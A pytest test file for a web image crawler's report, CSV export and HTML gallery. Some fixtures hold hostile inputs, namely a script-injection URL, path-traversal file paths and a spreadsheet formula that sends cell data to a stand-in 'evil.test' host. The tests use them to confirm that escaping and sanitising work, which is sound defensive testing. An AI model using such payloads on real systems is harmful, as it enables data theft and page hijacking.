import csv
import fcntl
import io
import json
from pathlib import Path

import pytest

from benchmarks.site import make_image
from crawler.messages import Kind
from crawler.output.gallery import write_gallery
from crawler.output.report import manifest_csv, render_text, summarize
from crawler.scheduler.records import CrawlRecords
from crawler.scheduler.status import RateWindow, StatusTracker
from crawler.scheduler.store import MemoryStore


def prepare_output(root: Path) -> None:
    """An output folder as a crawl leaves it: two hosts, three images, failures and one run."""
    records = []
    for number, (host, ext, kind) in enumerate([("a.test", "png", "image/png"), ("a.test", "jpg", "image/jpeg"),
                                                ("b.test_8080", "png", "image/png")]):
        data = make_image(number, ext)
        sha = f"{number:064x}"
        path = f"images/{host}/{sha}.{ext}"
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(data)
        url_host = host.replace("_", ":")  # the folder b.test_8080 holds images of b.test:8080
        records.append({"url": f"http://{url_host}/{number}.{ext}\"><script>alert(1)</script>", "page_url":
                        f"http://{url_host}/page", "path": path, "sha256": sha, "bytes": len(data),
                        "content_type": kind, "width": 24, "height": 16, "node": "n1", "time": "t",
                        "found_as": "css-linked" if number else "img", "name": f"{number}.{ext}",
                        "alt": ["Harbour at dusk", None, None][number], "title": None,
                        "caption": [None, "The old lighthouse", None][number], "pages": 1})
    (root / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    failures = [{"url": f"http://a.test/missing{n}", "outcome": "failed", "reason": "http-404"} for n in range(5)]
    failures.append({"url": "http://a.test/private", "outcome": "skipped", "reason": "robots"})
    (root / "failures.jsonl").write_text("".join(json.dumps(r) + "\n" for r in failures))
    (root / ".crawler").mkdir()
    (root / ".crawler" / "runs.jsonl").write_text(json.dumps({
        "seconds": 12.5, "counts": {"pages/fetched": 7, "sitemaps/fetched": 2, "sitemaps/pages": 5,
                                    "images/duplicate": 2, "bytes/duplicate": 3000,
                                    "images/out-of-scope": 12, "images/opted-out": 4, "images/x-robots-tag": 1,
                                    "images/tdm-reservation": 2,
                                    "images/denied": 2},
        "out_of_scope_hosts": ["cdn.example.com"],
        "slowest_hosts": [{"origin": "http://b.test:8080", "downloads": 3, "mean_seconds": 1.5},
                          {"origin": "http://c.test", "downloads": 1, "mean_seconds": 0.5}]}) + "\n")


def test_report_names_a_host_folder_of_another_script_as_people_write_it(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    manifest = tmp_path / "manifest.jsonl"
    record = json.loads(manifest.read_text().splitlines()[0])
    sha = "f" * 64
    record.update(url="http://bücher.test:8080/b.png", sha256=sha, path=f"images/xn--bcher-kva.test_8080/{sha}.png")
    with manifest.open("a") as lines:
        lines.write(json.dumps(record) + "\n")
    assert "xn--bcher-kva.test_8080 (bücher.test)" in render_text(summarize(tmp_path))


def test_report_summarize_counts_hosts_types_duplicates_and_failures(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    summary = summarize(tmp_path)
    assert summary["images"] == 3
    assert {host: v["images"] for host, v in summary["by_host"].items()} == {"a.test": 2, "b.test_8080": 1}
    assert summary["by_type"] == {"image/png": 2, "image/jpeg": 1}
    assert summary["by_found_as"] == {"css-linked": 2, "img": 1}
    assert "12 off-site images skipped (--same-host-images): add --allow-domain cdn.example.com" in render_text(
        summary)
    assert summary["images_denied"] == 2 and "2 images left out by --deny" in render_text(summary)
    assert "images by how the page showed them:\n        2  css-linked\n        1  img" in render_text(summary)
    assert summary["duplicates"] == {"images": 2, "bytes": 3000}
    assert summary["failures"]["failed: http-404"]["count"] == 5
    assert len(summary["failures"]["failed: http-404"]["examples"]) == 3
    assert summary["failures"]["skipped: robots"]["count"] == 1
    assert summary["duration_seconds"] == 12.5 and summary["pages_fetched"] == 7
    # it said "12s of crawling", and "0s" for a crawl of half a second, "7385s" for one of a night
    assert "7 pages, 12.5 s of crawling in" in render_text(summary)
    assert summary["missing_files"] == []
    text = render_text(summary)
    assert "duplicates avoided: 2 images" in text
    assert "1.50  http://b.test:8080 (3 downloads)\n     0.50  http://c.test (1 download)" in text
    assert ("left out at the sites' request: 4 image references on pages that opt out, 3 images sent with "
            "X-Robots-Tag or tdm-reservation") in text
    assert "with words (alt, title or caption): 2 of 3 images" in text
    assert "sitemaps read: 2, listing 5 pages the crawl took" in text


def test_report_reads_an_output_whose_files_hold_lines_that_are_not_their_records(tmp_path: Path) -> None:
    # `crawler export out -f out/manifest.jsonl` wrote CSV there (now refused); a hand edit or a
    # damaged disk does the same: inspect, export and the gallery stopped with a traceback
    prepare_output(tmp_path)
    for name in ("manifest.jsonl", "failures.jsonl", ".crawler/runs.jsonl"):
        with open(tmp_path / name, "ab") as damaged:
            damaged.write(b'[1]\n{"a": 1}\n{"url": 5, "path": [], "counts": 3}\n\xff\xfe\nurl,page_url,path\n')
    sha = "9" * 64  # records of the right shape but for a number that is text
    with open(tmp_path / "manifest.jsonl", "a") as manifest:
        manifest.write(json.dumps({"url": "http://a.test/9.png", "path": f"images/a.test/{sha}.png", "sha256": sha,
                                   "bytes": "3 kB"}) + "\n")
    with open(tmp_path / ".crawler" / "runs.jsonl", "a") as runs:
        runs.write("".join(json.dumps(run) + "\n" for run in ({"counts": {"pages/fetched": "7"}},
                                                              {"counts": {}, "seconds": "x"})))
    summary = summarize(tmp_path)
    assert (summary["images"], summary["runs"], sum(r["count"] for r in summary["failures"].values())) == (3, 1, 6)
    assert "3 images" in render_text(summary)
    assert manifest_csv(tmp_path).count("\n") == 4  # the header and the three images
    write_gallery(tmp_path)
    assert (tmp_path / "index.html").read_text().count("Harbour at dusk") >= 1


def test_report_takes_no_path_from_the_manifest_but_the_stores_own(tmp_path: Path) -> None:
    # whoever can write the shared output (any node's machine) could forge a record: inspect read
    # the picture it named outside the output and wrote its thumbnail where the sha256 led
    output = tmp_path / "out"
    output.mkdir()
    prepare_output(output)
    (tmp_path / "elsewhere.png").write_bytes(make_image(7, "png"))
    forged = [{"url": "http://a.test/f.png", "path": "images/../../elsewhere.png", "sha256": "../pwned"},
              {"url": "http://a.test/g.png", "path": "images/a.test/" + "1" * 64 + ".png", "sha256": "../../pwned"},
              {"url": "http://a.test/h.png", "path": "images/../" + "2" * 64 + ".png", "sha256": "2" * 64},
              {"url": "http://a.test/i.png", "path": "/etc/" + "3" * 64 + ".png", "sha256": "3" * 64}]
    with open(output / "manifest.jsonl", "a") as manifest:
        manifest.write("".join(json.dumps(record) + "\n" for record in forged))
    write_gallery(output)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["elsewhere.png", "out"]
    assert "elsewhere" not in (output / "index.html").read_text()
    assert summarize(output)["images"] == 3


def test_report_notices_missing_files(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    victim = next((tmp_path / "images" / "a.test").iterdir())
    victim.unlink()
    summary = summarize(tmp_path)
    assert summary["missing_files"] == [victim.relative_to(tmp_path).as_posix()]
    assert "MISSING: 1" in render_text(summary)


def test_report_manifest_csv_has_a_header_and_every_record(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    lines = manifest_csv(tmp_path).splitlines()
    assert lines[0] == ("url,page_url,found_as,name,alt,title,caption,pages,replaces,path,sha256,bytes,content_type,"
                        "width,height,node,time")
    assert len(lines) == 4


def test_report_gallery_escapes_urls_and_makes_thumbnails(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    page = write_gallery(tmp_path).read_text()
    # The records travel as JSON in a script element: no value can end it, open a tag or a comment.
    data = page.split('<script type="application/json" id="records">', 1)[1].split("</script>", 1)[0]
    assert "<" not in data and "\\u003cscript>alert(1)\\u003c/script>" in data
    records = json.loads(data)
    assert len(records) == 3 and {r["host"] for r in records} == {"a.test", "b.test:8080"}  # as people write hosts
    thumbnails = sorted(p.relative_to(tmp_path).as_posix() for p in (tmp_path / "thumbnails").rglob("*.jpg"))
    assert len(thumbnails) == 3 and sorted(r["thumb"] for r in records) == thumbnails
    assert "data:image" not in page  # thumbnails are files, not inline data
    assert ".innerHTML" not in page  # the script builds elements; values go in as text


def test_status_rate_window_and_honest_estimate() -> None:
    window = RateWindow()
    for second in range(20):
        window.add(float(second), 2)
    assert window.per_second(19.0, 19.0) == 2.2  # the last 10 s window holds 11 events of 2
    tracker = StatusTracker(0.0)
    for second in range(10):
        tracker.record_result("n1", "http://a.test", 0.5, float(second))
    tracker.record_discovered(5, 9.0)
    busy = tracker.snapshot(9.5, {}, 40, 2, [{"node": "n1"}], [], "running")
    assert busy["eta_seconds"] is None  # still discovering: no honest estimate
    calm = tracker.snapshot(19.5, {}, 40, 2, [{"node": "n1"}], [], "running")
    assert calm["rate"] == 0.0 and calm["eta_seconds"] is None
    tracker.record_result("n1", "http://a.test", 0.5, 20.0)
    settled = tracker.snapshot(20.0, {}, 10, 1, [{"node": "n1"}], [], "running")
    assert settled["eta_seconds"] == 100.0  # 10 pending at 0.1 tasks/s


def test_report_search_finds_images_by_their_words_and_names(tmp_path: Path) -> None:
    from crawler.output.report import render_matches, search
    prepare_output(tmp_path)
    assert [r["name"] for r in search(tmp_path, "harbour DUSK")] == ["0.png"]  # every word, any case
    assert [r["name"] for r in search(tmp_path, "lighthouse")] == ["1.jpg"]  # a caption
    assert [r["name"] for r in search(tmp_path, "2.png")] == ["2.png"]  # a file name
    assert search(tmp_path, "harbour lighthouse") == []
    text = render_matches(search(tmp_path, "lighthouse"))
    assert text.splitlines()[0] == "1 image found" and "caption: The old lighthouse" in text


def test_report_gallery_shows_and_searches_the_words(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    page = write_gallery(tmp_path).read_text()
    data = json.loads(page.split('<script type="application/json" id="records">', 1)[1].split("</script>", 1)[0])
    assert data[1]["caption"] == "The old lighthouse" and "the old lighthouse" in data[1]["text"]
    assert data[0]["alt"] == "Harbour at dusk" and data[0]["name"] == "0.png" and data[0]["pages"] == 1


def test_report_lists_the_runs_and_what_each_recrawl_found(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    recheck = {"pages/fetched": 1, "pages/unchanged": 5, "pages/unchanged-by-lastmod": 2, "pages/changed": 3,
               "images/unchanged": 7, "images/gone": 1, "images/new": 2, "images/saved": 1,
               "bytes/not-downloaded": 20_000, "images/pruned": 1}
    with (tmp_path / ".crawler" / "runs.jsonl").open("a") as runs:
        runs.write(json.dumps({"stopped": "2026-12-09T10:00:00+00:00", "stop_reason": "finished", "seconds": 4.0,
                               "counts": recheck}) + "\n")
    summary = summarize(tmp_path)
    assert [run["recrawl"] for run in summary["history"]][0] == ""
    text = render_text(summary)
    assert text.count("\n  ") >= 2 and "runs:\n" in text
    assert ("2026-12-09T10:00:00+00:00  4.0s  finished: 1 page fetched, 1 image saved. Re-crawl: 16 known URLs "
            "checked: 12 unchanged (2 by the sitemaps' lastmod, without a request), 3 changed, 1 gone; 2 new; "
            "20 kB not downloaded thanks to 304s; 1 gone image deleted (--prune).") in text


def test_report_counts_a_url_failing_again_in_a_running_recrawl_once(tmp_path: Path) -> None:
    """While a re-crawl runs, failures.jsonl holds this run's record of a URL beside the last
    run's (the file is settled when the run ends): the summary counts the URL once, as it is now."""
    prepare_output(tmp_path)
    with (tmp_path / "failures.jsonl").open("a") as failures:
        failures.write(json.dumps({"url": "http://a.test/missing0", "outcome": "failed", "reason": "http-410"}) + "\n")
    summary = summarize(tmp_path)
    assert summary["failures"]["failed: http-404"]["count"] == 4
    assert summary["failures"]["failed: http-410"] == {"count": 1, "examples": ["http://a.test/missing0"]}


def test_the_csv_export_has_every_field_of_a_manifest_record(tmp_path: Path) -> None:
    """`crawler export` is "the manifest as CSV": before, it left out `replaces`, which says what
    content a re-crawl's changed image replaced."""
    store = MemoryStore()
    url = "http://a.test/cat.png"
    url_id = store.add_url(url, url, Kind.IMAGE, 1, "http://a.test/", 0, "img", None)
    store.note_fetch(url_id, json.dumps({"sha256": "e" * 64, "bytes": 3, "at": 1.0}), 1.0)
    store.start_recrawl(None, None)  # the earlier fetch becomes part of the row
    row = store.get_url(url_id)
    assert row is not None
    records = CrawlRecords(tmp_path, store)
    records.image(row, {"path": f"images/a.test/{'f' * 64}.png", "sha256": "f" * 64, "bytes": 4,
                        "content_type": "image/png", "width": 1, "height": 1}, "n1")
    records.commit()
    written = json.loads((tmp_path / "manifest.jsonl").read_text())
    rows = list(csv.DictReader(io.StringIO(manifest_csv(tmp_path))))
    assert set(rows[0]) == set(written)
    assert rows[0]["replaces"] == "e" * 64


def test_the_csv_export_gives_a_spreadsheet_no_formula_from_a_page(tmp_path: Path) -> None:
    # The words and names are what pages and servers wrote; opened in a spreadsheet, an alt text
    # "=HYPERLINK(...)" was a formula that sends data away (CSV injection).
    records = [{"url": "http://a.test/x.png", "alt": '=HYPERLINK("http://evil.test/?"&A1,"x")', "title": "+1",
                "caption": "@SUM(A1)", "name": "-x.png", "pages": 2, "width": 10},
               {"url": "http://a.test/y.png", "alt": "A calm sea", "caption": "1 = 1", "pages": 1}]
    stored = [{**r, "path": f"images/a.test/{n:064x}.png", "sha256": f"{n:064x}"} for n, r in enumerate(records)]
    (tmp_path / "manifest.jsonl").write_text("".join(json.dumps(r) + "\n" for r in stored))
    rows = list(csv.DictReader(io.StringIO(manifest_csv(tmp_path))))
    assert [(r["alt"], r["title"], r["caption"], r["name"], r["pages"]) for r in rows] == [
        ("'=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")", "'+1", "'@SUM(A1)", "'-x.png", "2"),
        ("A calm sea", "", "1 = 1", "", "1")]


def test_report_the_gallery_groups_a_picture_written_into_a_page_under_the_pages_host(tmp_path: Path) -> None:
    prepare_output(tmp_path)
    data = make_image(9, "png")
    sha = f"{9:064x}"
    path = f"images/b.test_8080/{sha}.png"
    (tmp_path / path).write_bytes(data)
    inline = {"url": f"data:image/png;sha256,{sha}", "page_url": "http://b.test:8080/report.html", "path": path,
              "sha256": sha, "bytes": len(data), "content_type": "image/png", "width": 24, "height": 16,
              "node": "n1", "time": "t", "found_as": "img", "name": None, "alt": "plot", "title": None,
              "caption": None, "pages": 1}
    with open(tmp_path / "manifest.jsonl", "a") as manifest:
        manifest.write(json.dumps(inline) + "\n")
    page = write_gallery(tmp_path).read_text()
    records = json.loads(page.split('<script type="application/json" id="records">', 1)[1].split("</script>", 1)[0])
    assert {r["host"] for r in records} == {"a.test", "b.test:8080"}  # before: a third, "b.test_8080"


def test_report_a_photo_s_thumbnail_is_turned_as_the_photo_is_shown(tmp_path: Path) -> None:
    # A phone's portrait photo (pixels stored sideways, EXIF orientation 6): the lightbox showed it
    # upright, as browsers turn it, and its thumbnail lay on its side.
    from PIL import Image
    prepare_output(tmp_path)
    raw = Image.new("RGB", (400, 200), (255, 0, 0))
    raw.paste((0, 0, 255), (0, 0, 100, 200))  # blue on the left as stored: on top once turned
    tags = Image.Exif()
    tags[0x0112] = 6
    sha = f"{11:064x}"
    path = f"images/a.test/{sha}.jpg"
    out = io.BytesIO()
    raw.save(out, "JPEG", exif=tags.tobytes())
    (tmp_path / path).write_bytes(out.getvalue())
    record = {"url": "http://a.test/portrait.jpg", "page_url": "http://a.test/", "path": path, "sha256": sha,
              "bytes": len(out.getvalue()), "content_type": "image/jpeg", "width": 200, "height": 400,
              "node": "n1", "time": "t", "found_as": "img", "name": "portrait.jpg", "alt": None, "title": None,
              "caption": None, "pages": 1}
    with open(tmp_path / "manifest.jsonl", "a") as manifest:
        manifest.write(json.dumps(record) + "\n")
    write_gallery(tmp_path)
    with Image.open(next((tmp_path / "thumbnails").rglob(f"{sha}.jpg"))) as thumbnail:
        assert thumbnail.size == (120, 240)
        red, green, blue = thumbnail.convert("RGB").getpixel((60, 10))  # the top: blue
        assert blue > 200 and red < 60, (red, green, blue)


@pytest.mark.parametrize("extension, content_type", [("jxl", "image/jxl"), ("heic", "image/heic")])
def test_report_a_jpeg_xl_or_heic_is_its_own_thumbnail(tmp_path: Path, caplog: pytest.LogCaptureFixture,
                                                       extension: str, content_type: str) -> None:
    # Pillow reads no JPEG XL nor HEIC: the thumbnail is the file itself, as an SVG's, without a warning.
    prepare_output(tmp_path)
    sha = f"{10:064x}"
    path = f"images/a.test/{sha}.{extension}"
    (tmp_path / path).write_bytes(bytes.fromhex("ff0af83e90505c08001288020094c20e0c000000"))  # a header alone
    record = {"url": f"http://a.test/photo.{extension}", "page_url": "http://a.test/page", "path": path,
              "sha256": sha, "bytes": 20, "content_type": content_type, "width": 640, "height": 480, "node": "n1",
              "time": "t", "found_as": "picture", "name": f"photo.{extension}", "alt": None, "title": None,
              "caption": None, "pages": 1}
    with open(tmp_path / "manifest.jsonl", "a") as manifest:
        manifest.write(json.dumps(record) + "\n")
    page = write_gallery(tmp_path).read_text()
    records = json.loads(page.split('<script type="application/json" id="records">', 1)[1].split("</script>", 1)[0])
    assert [r["thumb"] for r in records if r["path"] == path] == [path]
    assert "no thumbnail" not in caplog.text


def test_report_says_when_a_crawl_is_running_into_the_output(tmp_path: Path) -> None:
    # `crawler inspect` during a crawl said "0 pages, 0s of crawling in 0 runs" beside thousands of
    # images: the run is counted when it ends. It now says a crawl is running, and how to watch it.
    prepare_output(tmp_path)
    assert not summarize(tmp_path)["running"]
    (tmp_path / ".crawler" / "contact.json").write_text('{"address": "127.0.0.1:1"}\n')  # the scheduler's note
    with open(tmp_path / ".crawler" / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # as a running scheduler holds it
        summary = summarize(tmp_path)
        assert summary["running"]
        assert "in 1 run ended, and a crawl is running: images so far" in render_text(summary)
    assert not summarize(tmp_path)["running"]  # the note of a killed scheduler alone: none is running
